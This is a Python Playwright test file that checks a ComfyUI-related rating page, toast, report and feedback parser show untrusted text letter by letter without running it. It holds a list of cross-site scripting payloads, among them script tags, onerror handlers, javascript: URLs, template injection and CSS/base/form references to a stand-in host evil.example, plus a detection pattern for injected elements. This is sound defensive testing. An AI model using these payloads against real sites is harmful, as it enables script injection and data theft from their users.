# SPDX-License-Identifier: Apache-2.0
"""Texts of strangers full of markup, scripts and right-to-left letters: shown letter by letter, and nothing runs."""

from __future__ import annotations

import uuid
from collections.abc import Callable, Iterator
from typing import Any
from urllib.parse import urlsplit

import numpy as np
import pytest

pytest.importorskip("playwright.sync_api", reason="Playwright is not installed")
from playwright.sync_api import BrowserContext, Locator, Page, Route, expect

from hero_core import report
from hero_core.store import Store
from tests.browser.grid import QUICK, enter, in_full, in_node, load, press, queue, tile, until
from tests.browser.rounds import draw_round
from tests.comfy.graphs import changed, loop
from tests.comfy.host import Server

TEXTS = [
    '<img src=x onerror="window.hit=1">', "<script>window.hit=1</script>", '"><svg onload=window.hit=1>',
    "' onmouseover='window.hit=1' x='", "javascript:window.hit=1",
    "</textarea></title></style><script>window.hit=1</script>",
    '<iframe srcdoc="<script>parent.hit=1</script>"></iframe>', '<a href="javascript:window.hit=1">click</a>',
    "<math><mtext><table><mglyph><style><img src=x onerror=window.hit=1>", "&lt;img src=x onerror=window.hit=1&gt;",
    "<style>@import 'http://evil.example/x.css'; * {background: url(http://evil.example/y)}</style>",
    "data:text/html,<script>parent.hit=1</script>", "{{constructor.constructor('window.hit=1')()}}",
    "${window.hit=1}", "\\u003cimg src=x onerror=window.hit=1\\u003e", "]]><script>window.hit=1</script><!--",
    "`;window.hit=1;//", "%3Cscript%3E",
    "\u202egnp.exe\u202c \u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627 \u2066\u2069",
    "a\u0000b\u2028c\u2029d\ufeff", "<form action=//evil.example><input autofocus onfocus=window.hit=1>",
    "<base href=//evil.example/>", "<object data=//evil.example>",
]  # fmt: skip
ALL = " ".join(TEXTS)
ONE_BY_ONE = [pytest.param(text, marks=pytest.mark.long, id=f"text {i}") for i, text in enumerate(TEXTS)]

INTRUDERS = """root => [...root.querySelectorAll('*')].filter(one =>
    ['SCRIPT', 'IFRAME', 'OBJECT', 'EMBED', 'BASE', 'STYLE', 'MATH', 'FORM', 'A'].includes(one.tagName.toUpperCase())
    || [...one.attributes].some(a => /^on/i.test(a.name)
        || a.name !== 'title' && /^(javascript|data):/i.test(a.value))  // a title is text, whatever it says
    || one.tagName === 'IMG' && one.getAttribute('src') && !one.src.includes('/pictures/')
).map(one => one.outerHTML.slice(0, 200))"""


@pytest.fixture
def tab(context: BrowserContext) -> Iterator[Page]:
    """A tab in which nothing of a text may run, open a dialog, or ask another host for something."""
    page = context.new_page()
    asked: list[str] = []
    page.on("request", lambda request: asked.append(urlsplit(request.url).hostname or ""))
    page.on("dialog", lambda dialog: asked.append(f"a dialog: {dialog.message}"))
    yield page
    assert page.evaluate("window.hit") is None
    assert set(asked) <= {"127.0.0.1", "localhost", ""}, set(asked)


def shown(place: Locator, text: str) -> None:
    """The text stands there letter by letter, and made no elements of its own."""
    expect(place.first).to_be_attached()
    found = place.first.evaluate("one => one.textContent")
    assert text in found, (text, found)


def rewritten(page: Page, text: str) -> None:
    """Let every round that the server tells of carry ``text`` in all of its words, also those that it would refuse."""

    def rewrite(route: Route) -> None:
        answer = route.fetch()
        data = answer.json()
        for one in data.get("rounds", [data]):
            if "id" in one:
                one |= {"session": text, "prompt": text, "problems": [text], "notes": [text]}
        route.fulfill(response=answer, json=data)

    page.route(lambda url: "/hero/rounds" in url and "/pictures/" not in url, rewrite)


@pytest.mark.parametrize("text", [pytest.param(ALL, id="all"), *ONE_BY_ONE])
def test_the_rating_page_shows_texts_and_runs_none(
    tab: Page, address: str, store: Store, text: str, tally: Callable
) -> None:
    draw_round(store, "one")
    draw_round(store, "two")
    rewritten(tab, text)
    tab.goto(address)
    tab.locator(".hero-tile").first.wait_for()
    shown(tab.locator(".hero-heading"), text)
    shown(tab.locator(".hero-prompt"), text)
    shown(tab.locator(".hero-picker"), text)
    shown(tab.locator(".hero-notes"), text)
    assert tab.locator(".hero-prompt").get_attribute("title") == text
    assert text.split("\u0000")[0].split()[0] in tab.title()
    tab.unroute_all()
    refusal = {"status": 400, "json": {"error": text}}
    tab.route("**/labels", lambda route: route.fulfill(**refusal))
    tile(tab.locator(".hero-grid"), 0).locator(".hero-mark.is-bad").click()
    expect(tab.locator(".hero-why")).to_contain_text("Not saved:")
    shown(tab.locator(".hero-why"), text)
    tab.route("**/hero/rounds/*", lambda route: route.fulfill(**refusal))
    tab.evaluate("location.hash = '#nothing.0001'")
    expect(tab.locator(".hero-empty strong")).to_have_text("This round cannot be shown")
    shown(tab.locator(".hero-empty p"), text)
    tile(tab.locator(".hero-grid"), 0).locator(".hero-frame").dblclick()
    tab.wait_for_timeout(100)
    assert tab.locator("body").evaluate(INTRUDERS) == []
    tally("scripts", 8 * (len(TEXTS) if text == ALL else 1))


def test_an_address_cannot_bring_a_text_that_runs(tab: Page, address: str, store: Store, tally: Callable) -> None:
    draw_round(store)
    for text in TEXTS[:6]:
        tab.goto(f"{address}?{text}#{text}")
        tab.locator(".hero-tile").first.wait_for()
        assert tab.locator("body").evaluate(INTRUDERS) == []
    tally("scripts", 6)


WATCH = "window.refused = []; addEventListener('securitypolicyviolation', e => refused.push(e.violatedDirective))"
GROW = """([tag, property, value]) => {
    const one = document.createElement(tag);
    one[property] = value;
    (tag === 'base' ? document.head : document.body).append(one);
    one.click();
}"""
GROWN = [
    ("script", "textContent", "window.hit=1"), ("div", "innerHTML", '<img src=x onerror="window.hit=1">'),
    ("script", "src", "http://localhost:1/x.js"), ("script", "src", "data:text/javascript,window.hit=1"),
    ("iframe", "src", "data:text/html,<script>parent.hit=1</script>"), ("a", "href", "javascript:window.hit=1"),
    ("base", "href", "http://localhost:1/"), ("img", "src", "http://localhost:1/x.png"),
]  # fmt: skip


def test_the_pages_policy_stops_what_got_in_nevertheless(
    tab: Page, address: str, store: Store, tally: Callable
) -> None:
    draw_round(store)
    tab.goto(address)
    tab.locator(".hero-tile").first.wait_for()
    for grown in GROWN:
        tab.evaluate(WATCH)
        tab.evaluate(GROW, grown)
        tab.wait_for_function("() => window.refused.length > 0")
        tab.wait_for_timeout(50)
        assert tab.evaluate("[window.hit, document.baseURI.startsWith('http://127.0.0.1')]") == [None, True], grown
    tally("scripts", len(GROWN))


@pytest.mark.browser
@pytest.mark.usefixtures("newest")
@pytest.mark.parametrize("nodes", ["classic", pytest.param("nodes 2.0", marks=pytest.mark.long)])
def test_comfyui_shows_texts_in_grid_and_toast_and_runs_none(
    tab: Page, comfy: Server, nodes: str, tally: Callable
) -> None:
    name = f"scripts_{uuid.uuid4().hex[:8]}"
    comfy.request("POST", "/settings/Comfy.VueNodes.Enabled", nodes != "classic")
    graph = loop(name, mode="resume", prompt=ALL, negative=ALL, **QUICK)
    for node in graph.values():
        node["_meta"] = {"title": ALL}
    enter(tab, comfy)
    load(tab, graph)
    queue(tab)
    grid = in_node(tab)
    until(lambda: comfy.get("/hero/sessions")["sessions"] and not comfy.running(), "the run did not end at the grid")
    told = comfy.get(f"/hero/rounds/{name}.0001")["prompt"]
    assert all(text in told for text in TEXTS[:4]), "ComfyUI's page takes comments out of prompts, and no more"
    if nodes == "classic":
        tile(grid, 0).wait_for()
        shown(grid.locator(".hero-prompt"), told)
        assert grid.evaluate(INTRUDERS) == []
    rewritten(tab, ALL)
    load(tab, changed(graph, "session", name="another"))
    tab.keyboard.press("Shift+H")
    full = in_full(tab)
    tile(full, 0).wait_for()
    press(full, 0, "bad")
    expect(full.locator(".hero-saved")).to_have_text("Saved")
    shown(full.locator(".hero-heading"), ALL)
    full.locator(".hero-submit").click()
    toast = tab.locator(".p-toast-message").filter(has_text="is submitted")
    expect(toast.first).to_be_visible()
    shown(toast, ALL)
    for place in (full, toast.first):
        assert place.evaluate(INTRUDERS) == []
    tally("scripts", 4 * len(TEXTS))


def test_the_report_draws_texts_as_letters(tally: Callable) -> None:
    history: list[dict[str, Any]] = [{"round": 1, "good": 3, "bad": 5, "marks": 8, "skip": None}]
    plain = np.asarray(report.curves("rose", history))
    for text in [*TEXTS, ALL, "", "x" * 10_000]:
        picture = report.curves(text, [{**history[0], "skip": text}])
        assert picture.size == (720, 640)
        assert not np.array_equal(np.asarray(picture), plain)
    tally("scripts", len(TEXTS))


def test_marks_from_a_workflow_are_data(store: Store, tally: Callable) -> None:
    """What a workflow may put into `labels` is read as marks or refused; no text of it is kept."""
    from hero_core.errors import HeroError
    from hero_core.feedback import Feedback

    for text in TEXTS:
        for labels in ({text: "good"}, {"0": text}):
            with pytest.raises(HeroError):
                Feedback.from_json({"labels": labels}, 4)
        with pytest.raises(HeroError):
            Feedback.from_json({"labels": {}, "best": text}, 4)
        with pytest.raises(HeroError):
            store.open(text, None)  # type: ignore[arg-type]
    tally("scripts", 4 * len(TEXTS))
